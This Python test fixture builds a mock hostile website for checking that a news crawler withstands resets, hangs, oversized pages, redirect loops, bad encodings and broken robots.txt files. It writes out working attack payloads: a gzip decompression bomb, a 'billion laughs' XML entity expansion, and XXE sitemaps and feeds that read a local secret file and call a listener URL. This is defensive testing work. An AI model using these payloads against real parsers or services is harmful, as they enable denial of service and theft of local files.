"""The hostile web's sites: one portal where every link leads to trouble or to
an article in a troublesome form, and two portals with a bad robots.txt."""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field
from functools import lru_cache

from hostile_support.content import STORIES, Story, article_html, to_cp1258, to_tcvn3, to_vni
from hostile_support.server import (
    Behaviour,
    answer,
    drip,
    hang,
    reset,
    sequence,
    stream,
)

HOST = "hostile.gov.vn"
BIG_ROBOTS_HOST = "robots-lon.gov.vn"
BROKEN_ROBOTS_HOST = "robots-hong.gov.vn"
MB = 1024 * 1024
#: DOWNLOAD_MAXSIZE of the hostile harvest: the 50 MB page and the bomb must hit it.
MAX_SIZE = 2 * MB
HTML = "text/html; charset=utf-8"


@lru_cache(maxsize=1)
def gzip_bomb(size: int = 100 * MB) -> bytes:
    """``size`` bytes of spaces, gzip-compressed to about a thousandth of that."""
    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
    block = b" " * MB
    parts = [packer.compress(block) for _ in range(size // MB)]
    parts.append(packer.flush())
    return b"".join(parts)


def billion_laughs(good_url: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE urlset [\n' + "\n".join(entities) + "\n]>\n"
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>http://{HOST}/bom/&lol9;</loc></url>"
        f"<url><loc>{good_url}</loc><lastmod>2024-03-03</lastmod></url></urlset>"
    ).encode()


def external_entities(listener: str, file_path: str) -> bytes:
    """A sitemap whose entities would read a local file and call ``listener``."""
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE urlset [\n'
        f'<!ENTITY local SYSTEM "file://{file_path}">\n'
        f'<!ENTITY remote SYSTEM "{listener}/xxe-entity">\n'
        f'<!ENTITY % dtd SYSTEM "{listener}/xxe-dtd">\n%dtd;\n]>\n'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>http://{HOST}/tin-tuc/&local;.html</loc></url>"
        f"<url><loc>http://{HOST}/tin-tuc/&remote;.html</loc></url></urlset>"
    ).encode()


def feed_with_entities(listener: str, good_url: str) -> bytes:
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
        f'<!ENTITY remote SYSTEM "{listener}/xxe-feed">\n]>\n'
        '<rss version="2.0"><channel><title>Tin mới</title>'
        f"<item><title>&remote;</title><link>{good_url}</link>"
        "<pubDate>Thu, 18 Apr 2024 08:00:00 +0700</pubDate></item></channel></rss>"
    ).encode()


PDF_BODY = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    + bytes(range(256)) * 40
)


@dataclass
class HostilePlan:
    """The routes, and what the tests expect of the crawl over them."""

    routes: dict[str, dict[str, Behaviour]] = field(default_factory=dict)
    #: story key -> URL of every article that must be stored.
    stored: dict[str, str] = field(default_factory=dict)
    #: URLs that must not become records (broken, binary, hostile).
    never_stored: list[str] = field(default_factory=list)
    start_urls: list[str] = field(default_factory=list)


def _url(path: str, host: str = HOST) -> str:
    return f"http://{host}{path}"


def _home(links: list[tuple[str, str]], feed: str | None = None) -> Behaviour:
    items = "".join(f'<li><a href="{href}">{text}</a></li>' for href, text in links)
    alternate = f'<link rel="alternate" type="application/rss+xml" href="{feed}">' if feed else ""
    markup = (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Trang chủ</title>"
              f"{alternate}</head><body><ul>{items}</ul></body></html>")  # fmt: skip
    return answer(markup.encode())


def _article(story: Story) -> Behaviour:
    return answer(article_html(story).encode())


def build_plan(listener: str, secret_file: str) -> HostilePlan:
    """Every route of the hostile web; ``listener`` is the server's own URL."""
    plan = HostilePlan()
    stories = STORIES
    trouble = {
        "/tin-tuc/ket-noi-bi-ngat-giua-chung-khi-dang-tai-trang-nay.html": reset(),
        "/tin-tuc/trang-tra-loi-rat-cham-tung-chut-mot-khong-bao-gio-xong.html": drip(
            article_html(stories["plain"]).encode()
        ),
        "/tin-tuc/may-chu-nhan-yeu-cau-nhung-khong-bao-gio-tra-loi.html": hang(),
        "/tai-lieu/trang-nang-nam-muoi-megabyte-co-bao-truoc-do-dai.html": stream(50 * MB, True),
        "/tai-lieu/trang-nang-nam-muoi-megabyte-khong-bao-truoc-do-dai.html": stream(
            50 * MB, False
        ),
        "/tin-tuc/trang-nen-gzip-bung-ra-hang-tram-megabyte-khi-giai-nen.html": answer(
            gzip_bomb(), Content_Encoding="gzip"
        ),
        "/tin-tuc/van-ban-pdf-nhung-may-chu-bao-la-trang-html.html": answer(PDF_BODY),
        "/vong-lap-a": answer(b"", 302, Location=_url("/vong-lap-b")),
        "/vong-lap-b": answer(b"", 302, Location=_url("/vong-lap-a")),
    }
    for number in range(1, 6):
        trouble[f"/tin-tuc/may-chu-qua-tai-loi-nam-tram-ba-so-{number}.html"] = answer(
            b"Service Unavailable", 503, "text/plain"
        )
    routes: dict[str, Behaviour] = dict(trouble)
    plan.never_stored = [_url(path) for path in trouble]

    plain, wrong = stories["plain"], stories["wrong_charset"]
    routes[plain.path] = _article(plain)
    routes[wrong.path] = answer(article_html(wrong, meta_charset=None).encode(),
                                content_type="text/html; charset=iso-8859-1")  # fmt: skip
    tcvn3 = stories["tcvn3"]
    tcvn3_story = Story(tcvn3.slug, to_tcvn3(tcvn3.title), tcvn3.date,
                        tuple(to_tcvn3(p) for p in tcvn3.paragraphs))  # fmt: skip
    routes[tcvn3.path] = answer(article_html(tcvn3_story, font=".VnTime").encode())
    vni = stories["vni"]
    # The whole page in VNI, chrome included, as bytes without a charset.
    vni_page = to_vni(article_html(vni, meta_charset=None, font="VNI-Times"))
    routes[vni.path] = answer(vni_page.encode("latin-1"), content_type="text/html")
    cp1258 = stories["cp1258"]
    routes[cp1258.path] = answer(to_cp1258(article_html(cp1258, meta_charset=None)),
                                 content_type="text/html")  # fmt: skip
    malformed = stories["malformed"]
    # Unclosed paragraphs, stray closing tags, a table opened in a paragraph.
    broken = article_html(malformed).replace("</p>", "<div><span>", 2).replace("</div>", "", 1)
    routes[malformed.path] = answer(("</td></b>" + broken + "<p><table><tr><p>").encode())
    truncated = stories["truncated"]
    whole = article_html(truncated).encode()
    # Cut in the middle of the third paragraph, mid-word, every tag left open.
    cut = whole.index(truncated.paragraphs[2].encode()) + 25
    routes[truncated.path] = answer(whole[:cut])
    retry_after = stories["retry_after"]
    routes[retry_after.path] = sequence(
        answer(b"Too Many Requests", 429, "text/plain", Retry_After="1"), _article(retry_after)
    )
    flaky = stories["flaky"]
    failing = answer(b"busy", 503, "text/plain")
    routes[flaky.path] = sequence(failing, failing, _article(flaky))
    for key in ("sitemap_only", "feed_only"):
        routes[stories[key].path] = _article(stories[key])

    routes["/robots.txt"] = answer(
        f"User-agent: *\nDisallow: /quan-tri/\nSitemap: {_url('/sitemap-bom.xml')}\n"
        f"Sitemap: {_url('/sitemap-thuc-the.xml')}\n".encode(),
        content_type="text/plain",
    )
    routes["/sitemap-bom.xml"] = answer(billion_laughs(_url(stories["sitemap_only"].path)),
                                        content_type="application/xml")  # fmt: skip
    routes["/sitemap-thuc-the.xml"] = answer(external_entities(listener, secret_file),
                                             content_type="application/xml")  # fmt: skip
    routes["/rss/tin-moi.rss"] = answer(
        feed_with_entities(listener, _url(stories["feed_only"].path)),
        content_type="application/rss+xml",
    )
    linked = [key for key in stories if key not in ("sitemap_only", "feed_only")
              and "robots" not in key]  # fmt: skip
    links = [(stories[key].path, stories[key].title) for key in linked]
    links += [(path, "Tin liên quan") for path in trouble]
    routes["/"] = _home(links, feed="/rss/tin-moi.rss")
    plan.routes[HOST] = routes
    plan.stored = {key: _url(stories[key].path) for key in (*linked, "sitemap_only", "feed_only")}
    plan.start_urls = [_url("/")]

    for host, key, robots in (
        (BIG_ROBOTS_HOST, "big_robots", _huge_robots()),
        (BROKEN_ROBOTS_HOST, "broken_robots", b"\x00\xff<html><body>500 Internal \x00 Error"),
    ):
        story = stories[key]
        plan.routes[host] = {
            "/": _home([(story.path, story.title)]),
            "/robots.txt": answer(robots, content_type="text/plain"),
            story.path: _article(story),
        }
        plan.stored[key] = _url(story.path, host)
        plan.start_urls.append(_url("/", host))
    return plan


def _huge_robots() -> bytes:
    """A robots.txt of about 1.5 MB: tens of thousands of rules for other paths."""
    lines = ["User-agent: *"] + [f"Disallow: /luu-tru/muc-{n}/" for n in range(60_000)]
    return ("\n".join(lines) + "\n").encode()
